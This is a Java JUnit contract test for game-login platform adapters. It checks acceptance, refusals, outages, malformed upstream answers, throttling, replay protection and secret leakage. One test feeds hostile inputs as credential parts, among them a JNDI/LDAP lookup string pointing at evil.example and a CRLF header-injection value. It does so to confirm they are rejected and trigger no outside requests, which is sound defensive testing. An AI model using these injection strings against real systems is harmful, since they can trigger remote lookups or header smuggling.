// SPDX-License-Identifier: Apache-2.0
package io.github.gameauth.adapters.testing;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder;
import com.github.tomakehurst.wiremock.http.Fault;
import io.github.gameauth.adapters.PlatformCatalog;
import io.github.gameauth.adapters.proof.AdapterContext;
import io.github.gameauth.adapters.testing.JsonMutations.Mutation;
import io.github.gameauth.platform.PlatformAdapter;
import io.github.gameauth.platform.PlatformIdentity;
import io.github.gameauth.platform.PlatformVerdict;
import io.github.gameauth.platform.PlatformVerdict.Accepted;
import io.github.gameauth.platform.PlatformVerdict.Rejected;
import io.github.gameauth.platform.PlatformVerdict.Undecided;
import io.github.gameauth.testing.LeakSearch;
import io.github.gameauth.testing.TestUpstream;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.function.Function;
import org.junit.jupiter.api.Test;

/**
 * What every adapter must do, whatever its platform answers. An adapter's test implements it,
 * describes a good login, and adds the platform's own cases as {@link #refusals}.
 *
 * @param <C> the credential
 */
public interface PlatformAdapterContract<C> {
  /** The hosts of this test; a field of the test, made by {@link TestPlatforms#fresh}. */
  TestPlatforms platforms();

  /** The adapter in this context. */
  PlatformAdapter<C> adapter(AdapterContext context);

  /** Its name in the catalogue. */
  String catalogueName();

  /** The same settings as those of {@link #adapter}, in JSON. */
  String settingsJson();

  /** A credential that is accepted at the time of the clock; the same one each time. */
  C goodCredential();

  /** The good credential as a client sends it. */
  String credentialJson();

  /** Whom the good credential proves, facts and name included. */
  PlatformIdentity identity();

  /** What is asked for a good credential, in this order; empty if nobody is. */
  List<Answer> answers();

  /**
   * What the platform's documentation says of failures, with its sample answers: expired, foreign,
   * for another game, and whatever else there is.
   */
  List<Refusal<C>> refusals();

  /** The good credential with one of its parts replaced; by the part's name. */
  Map<String, Function<String, C>> parts();

  /** Keys of ours and parts of the good credential that must not be seen anywhere. */
  List<String> secrets();

  /** The catalogue that holds the adapter. */
  default PlatformCatalog catalogue() {
    return PlatformCatalog.standard();
  }

  /** Whether a value of an answer may make a rejection by being absent or of another kind. */
  default boolean mayReject(Answer answer, String pointer) {
    return false;
  }

  /** The name of a verdict's reason or cause, or {@code ACCEPTED}. */
  static String nameOf(PlatformVerdict verdict) {
    if (verdict instanceof Rejected rejected) {
      return rejected.reason().name();
    }
    return verdict instanceof Undecided undecided ? undecided.cause().name() : "ACCEPTED";
  }

  /** Lets every host answer as for the good credential. */
  default void answerWell() {
    platforms().reset();
    answers().forEach(answer -> platforms().answer(answer.url(), answer.body()));
  }

  /** What an adapter of its own says of a credential in this context. */
  default PlatformVerdict verdict(AdapterContext context, C credential) {
    PlatformAdapter<C> adapter = adapter(context);
    try {
      return adapter.verify(credential);
    } finally {
      close(adapter);
    }
  }

  private static void close(PlatformAdapter<?> adapter) {
    if (adapter instanceof AutoCloseable closing) {
      try {
        closing.close();
      } catch (Exception e) {
        throw new AssertionError(e);
      }
    }
  }

  private void assertVerdict(String expected, AdapterContext context, C credential, String what) {
    assertEquals(expected, nameOf(verdict(context, credential)), what);
  }

  @Test
  default void acceptsAGoodCredential() {
    answerWell();

    PlatformVerdict verdict = verdict(platforms().context(), goodCredential());

    assertEquals(new Accepted(identity()), verdict);
    assertEquals(
        answers().stream().map(Answer::url).distinct().toList(),
        platforms().received().stream()
            .map(request -> "https:/" + request.getUrl().replaceAll("\\?.*", ""))
            .distinct()
            .toList());
  }

  @Test
  default void isMadeFromItsJson() {
    answerWell();
    String json = "{\"" + catalogueName() + "\":" + settingsJson() + "}";

    List<PlatformAdapter<?>> adapters = catalogue().adapters(json, platforms().context());

    assertEquals(1, adapters.size());
    PlatformAdapter<?> adapter = adapters.get(0);
    Optional<?> credential = PlatformCatalog.credential(adapter, credentialJson());
    assertEquals(Optional.of(goodCredential()), credential);
    assertEquals(new Accepted(identity()), verified(adapter, credential.orElseThrow()));
    close(adapter);
  }

  private static <D> PlatformVerdict verified(PlatformAdapter<D> adapter, Object credential) {
    return adapter.verify(adapter.credentialType().cast(credential));
  }

  @Test
  default void saysWhatItIs() {
    PlatformAdapter<C> adapter = adapter(platforms().context());

    assertEquals(identity().platform(), adapter.platform());
    assertEquals(adapter.credentialType(), goodCredential().getClass());
    close(adapter);
  }

  @Test
  default void refusesAsThePlatformDocumentsIt() {
    for (Refusal<C> refusal : refusals()) {
      answerWell();
      refusal.answers().forEach(at -> platforms().answer(at.url(), at.response()));

      assertVerdict(refusal.verdict(), platforms().context(), refusal.credential(), refusal.name());
      assertEquals(0, platforms().once().size(), refusal.name() + ": noted without proof");
    }
  }

  @Test
  default void isUndecidedWhileAHostDoesNotAnswer() {
    Map<String, ResponseDefinitionBuilder> faults = new LinkedHashMap<>();
    faults.put("silent", TestUpstream.json("{}").withFixedDelay(2500));
    faults.put("slow", TestUpstream.json("{\"a\":1}").withChunkedDribbleDelay(5, 4000));
    for (Answer answer : answers()) {
      faults.forEach(
          (name, fault) -> {
            answerWell();
            platforms().answer(answer.url(), fault);
            assertVerdict(
                "OUTAGE", platforms().hastyContext(), goodCredential(), answer.url() + " " + name);
          });
    }
  }

  @Test
  default void isUndecidedWhileAHostTalksNonsense() {
    for (Answer answer : answers()) {
      Map<String, ResponseDefinitionBuilder> faults = new LinkedHashMap<>();
      faults.put("resets", aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER));
      faults.put("closes", aResponse().withFault(Fault.EMPTY_RESPONSE));
      faults.put("random", aResponse().withFault(Fault.RANDOM_DATA_THEN_CLOSE));
      faults.put("breaks off", aResponse().withFault(Fault.MALFORMED_RESPONSE_CHUNK));
      faults.put("nothing", TestUpstream.json(""));
      faults.put(
          "HTML",
          aResponse().withHeader("Content-Type", "text/html").withBody("<html>Maintenance</html>"));
      faults.put("half", TestUpstream.json(answer.body().substring(0, answer.body().length() / 2)));
      faults.put("oversized", TestUpstream.json("{\"a\":\"" + "x".repeat(300_000) + "\"}"));
      faults.put("twice", TestUpstream.json(answer.body() + answer.body()));
      for (String other :
          List.of("null", "true", "\"OK\"", "17", "[]", "{}", "{\"a\":1,\"a\":2}")) {
        faults.put(other, TestUpstream.json(other));
      }
      faults.put("redirect", aResponse().withStatus(302).withHeader("Location", answer.url()));
      faults.forEach(
          (name, fault) -> {
            answerWell();
            platforms().answer(answer.url(), fault);
            assertVerdict(
                "OUTAGE", platforms().context(), goodCredential(), answer.url() + " " + name);
          });
    }
  }

  @Test
  default void knowsWhatAStatusMeans() {
    for (Answer answer : answers()) {
      for (int status : List.of(400, 401, 403, 404, 405, 500, 502, 503)) {
        answerWell();
        platforms().answer(answer.url(), aResponse().withStatus(status).withBody("<html>"));
        assertVerdict(
            answer.meaningOf(status),
            platforms().context(),
            goodCredential(),
            answer.url() + " " + status);
        assertTrue(
            platforms().requests(answer.url()) <= (answer.spending() ? 1 : 2),
            answer.url() + " " + status + ": asked too often");
      }
    }
  }

  @Test
  default void waitsAsLongAsAHostAsks() {
    for (Answer answer : answers()) {
      answerWell();
      platforms().answer(answer.url(), aResponse().withStatus(429).withHeader("Retry-After", "7"));
      PlatformAdapter<C> adapter = adapter(platforms().context());

      Undecided first = assertInstanceOf(Undecided.class, adapter.verify(goodCredential()));
      Undecided second = assertInstanceOf(Undecided.class, adapter.verify(goodCredential()));

      assertEquals(answer.isKeySet() ? "OUTAGE" : "THROTTLED", nameOf(first), answer.url());
      assertEquals(nameOf(first), nameOf(second), answer.url());
      assertEquals(1, platforms().requests(answer.url()), answer.url());
      if (!answer.isKeySet()) {
        assertEquals(Duration.ofSeconds(7), first.retryAfter(), answer.url());
        platforms().clock().advance(Duration.ofSeconds(7));
        platforms().answer(answer.url(), answer.body());
        assertEquals("ACCEPTED", nameOf(adapter.verify(goodCredential())), answer.url());
      }
      close(adapter);
    }
  }

  @Test
  default void neitherThrowsNorRejectsForAnOddAnswer() {
    AdapterContext context = platforms().context();
    for (Answer answer : answers()) {
      if (answer.kind() != Answer.Kind.JSON) {
        continue;
      }
      for (Mutation mutation : JsonMutations.of(answer.body())) {
        answerWell();
        platforms().answer(answer.url(), mutation.json());
        String what = answer.url() + " " + mutation;

        PlatformVerdict verdict = verdict(context.once(new TestOnceStore()), goodCredential());

        if (verdict instanceof Accepted accepted) {
          assertTrue(
              accepted.identity().subject().chars().allMatch(c -> c > ' ' && c < 0x7f), what);
          assertTrue(
              accepted.identity().displayName().stream()
                  .allMatch(name -> name.length() <= 128 && name.indexOf('\n') < 0),
              what);
        } else if (!mutation.sameKind() && !mayReject(answer, mutation.pointer())) {
          assertInstanceOf(Undecided.class, verdict, what);
        }
      }
    }
  }

  @Test
  default void refusesWhatCannotBeACredential() {
    List<String> impossible =
        List.of(
            "a\r\nX-Injected: yes",
            "a b",
            "\u0000\u0001",
            "\u001b[2J",
            "\ud83d\ude00\u202e",
            "x".repeat(1_000_000));
    List<String> odd =
        List.of(
            "-", "%00", "..", "${jndi:ldap://evil.example/a}", "https://evil.example/", "a&b=c");
    parts()
        .forEach(
            (part, with) -> {
              for (String text : impossible) {
                answerWell();
                credential(with, text)
                    .ifPresent(
                        credential ->
                            assertInstanceOf(
                                Rejected.class, verdict(platforms().context(), credential), part));
              }
              for (String text : odd) {
                answerWell();
                credential(with, text)
                    .ifPresent(
                        credential -> {
                          String name = nameOf(verdict(platforms().context(), credential));
                          assertFalse(name.isEmpty());
                        });
                List<String> ours = answers().stream().map(Answer::url).toList();
                platforms()
                    .received()
                    .forEach(
                        request ->
                            assertTrue(
                                ours.contains("https:/" + request.getUrl().replaceAll("\\?.*", "")),
                                part + ": " + request.getUrl()));
              }
            });
  }

  /** A record may refuse to hold what cannot be a part of it. */
  private static <C> Optional<C> credential(Function<String, C> with, String text) {
    try {
      return Optional.of(with.apply(text));
    } catch (IllegalArgumentException e) {
      return Optional.empty();
    }
  }

  @Test
  default void acceptsACredentialOnce() {
    answerWell();
    PlatformAdapter<C> adapter = adapter(platforms().context());

    assertEquals("ACCEPTED", nameOf(adapter.verify(goodCredential())));
    assertEquals("REPLAYED", nameOf(adapter.verify(goodCredential())));
    close(adapter);
  }

  @Test
  default void acceptsACredentialTwiceWhereThatIsTolerated() {
    answerWell();
    AdapterContext context = platforms().context();
    AdapterContext tolerant =
        AdapterContext.toleratingReplays(context.http())
            .clock(context.clock())
            .ticker(context.ticker());
    PlatformAdapter<C> adapter = adapter(tolerant);

    assertEquals("ACCEPTED", nameOf(adapter.verify(goodCredential())));
    assertEquals("ACCEPTED", nameOf(adapter.verify(goodCredential())));
    close(adapter);
  }

  @Test
  default void acceptsOneOfManyWhoBringTheSame() throws Exception {
    answerWell();
    PlatformAdapter<C> adapter = adapter(platforms().context());
    ExecutorService threads = Executors.newFixedThreadPool(8);
    CountDownLatch gate = new CountDownLatch(1);
    try {
      List<Future<String>> futures = new ArrayList<>();
      for (int i = 0; i < 8; i++) {
        futures.add(
            threads.submit(
                () -> {
                  gate.await();
                  return nameOf(adapter.verify(goodCredential()));
                }));
      }
      gate.countDown();
      List<String> names = new ArrayList<>();
      for (Future<String> future : futures) {
        names.add(future.get());
      }

      assertEquals(1, names.stream().filter("ACCEPTED"::equals).count(), names::toString);
      assertEquals(7, names.stream().filter("REPLAYED"::equals).count(), names::toString);
    } finally {
      threads.shutdownNow();
      close(adapter);
    }
  }

  @Test
  default void isUndecidedWhileUsesCannotBeNoted() {
    answerWell();
    AdapterContext context = platforms().context();
    platforms().once().fail();

    assertVerdict("OUTAGE", context, goodCredential(), "the store of uses fails");
  }

  @Test
  default void keepsAnInterrupt() {
    if (answers().isEmpty()) {
      return;
    }
    answerWell();
    // Keys are fetched by another thread, which must not be done before this one begins to wait.
    Answer first = answers().get(0);
    platforms().answer(first.url(), TestUpstream.json(first.body()).withFixedDelay(300));
    Thread.currentThread().interrupt();

    PlatformVerdict verdict = verdict(platforms().context(), goodCredential());

    assertTrue(Thread.interrupted());
    assertEquals("OUTAGE", nameOf(verdict));
  }

  @Test
  default void tellsNothing() {
    try (LeakSearch search = new LeakSearch()) {
      secrets().forEach(search::hide);
      PlatformAdapter<C> adapter = adapter(platforms().context());
      search.show(adapter);
      search.show(goodCredential());
      answerWell();
      search.show(adapter.verify(goodCredential()));
      for (int status : List.of(200, 400, 401, 403, 404, 429, 500)) {
        for (Answer answer : answers()) {
          answerWell();
          String echo = "{\"error\":\"" + String.join(" ", secrets()).replace("\n", " ") + "\"}";
          platforms().answer(answer.url(), TestUpstream.json(echo).withStatus(status));
          search.show(verdict(platforms().context(), goodCredential()));
        }
      }
      for (Refusal<C> refusal : refusals()) {
        answerWell();
        refusal.answers().forEach(at -> platforms().answer(at.url(), at.response()));
        search.show(verdict(platforms().context(), refusal.credential()));
      }
      String wrong = settingsJson().replaceFirst("\\{", "{\"unknown\":1,");
      try {
        catalogue().adapters("{\"" + catalogueName() + "\":" + wrong + "}", platforms().context());
      } catch (IllegalArgumentException e) {
        search.show(e);
      }
      close(adapter);

      assertEquals(Optional.empty(), search.leak());
    }
  }
}
